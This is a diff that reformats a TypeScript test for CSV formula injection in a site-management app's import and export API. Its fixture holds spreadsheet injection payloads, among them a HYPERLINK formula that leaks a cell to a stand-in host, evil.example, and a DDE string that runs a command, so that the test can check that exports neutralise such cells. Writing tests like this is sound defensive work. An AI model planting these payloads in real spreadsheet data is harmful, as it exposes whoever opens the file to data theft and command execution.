@@ -5,24 +5,47 @@ import { createTestApp, type TestApp } from '../helpers/test-app.js';
 
 let t: TestApp;
 let admin: { agent: TestAgent; csrf: string };
-beforeAll(async () => { t = await createTestApp({ config: { importMaxRows: 50, importMaxBytes: 20_000 } }); admin = await t.login('admin'); });
-afterAll(async () => { await t.close(); });
+beforeAll(async () => {
+  t = await createTestApp({ config: { importMaxRows: 50, importMaxBytes: 20_000 } });
+  admin = await t.login('admin');
+});
+afterAll(async () => {
+  await t.close();
+});
 
-const text = (agent: TestAgent, url: string) => agent.get(url).buffer(true).parse((r, cb) => { let d = ''; r.setEncoding('utf8'); r.on('data', (c) => { d += c; }); r.on('end', () => cb(null, d)); });
+const text = (agent: TestAgent, url: string) =>
+  agent
+    .get(url)
+    .buffer(true)
+    .parse((r, cb) => {
+      let d = '';
+      r.setEncoding('utf8');
+      r.on('data', (c) => {
+        d += c;
+      });
+      r.on('end', () => cb(null, d));
+    });
 const importCsv = (kind: string, csv: string, dry = false) =>
-  admin.agent.post(`/api/import/${kind}${dry ? '?dry_run=1' : ''}`).set('X-CSRF-Token', admin.csrf).set('Content-Type', 'text/csv').send(csv);
+  admin.agent
+    .post(`/api/import/${kind}${dry ? '?dry_run=1' : ''}`)
+    .set('X-CSRF-Token', admin.csrf)
+    .set('Content-Type', 'text/csv')
+    .send(csv);
 
 const FORMULAS = {
   name: '=HYPERLINK("http://evil.example/?leak="&A1;"Klick")',
-  address: '+cmd|\' /C calc\'!A0',
+  address: "+cmd|' /C calc'!A0",
   notes: '@SUM(1)',
   accessibility_notes: '-1+1',
 };
 
 describe('CSV formula injection', () => {
-  it('when text cells begin with = + - @, then the export prefixes them with \' and the import restores them unchanged', async () => {
+  it("when text cells begin with = + - @, then the export prefixes them with ' and the import restores them unchanged", async () => {
     const site = (await admin.agent.get('/api/sites')).body.find((s: { name: string }) => s.name === 'Kornhausplatz 4/6');
-    const patched = await admin.agent.patch(`/api/sites/${site.id}`).set('X-CSRF-Token', admin.csrf).send({ ...FORMULAS, version: site.version });
+    const patched = await admin.agent
+      .patch(`/api/sites/${site.id}`)
+      .set('X-CSRF-Token', admin.csrf)
+      .send({ ...FORMULAS, version: site.version });
     expect(patched.status).toBe(200);
 
     const csv = (await text(admin.agent, '/api/export/sites.csv')).body as string;
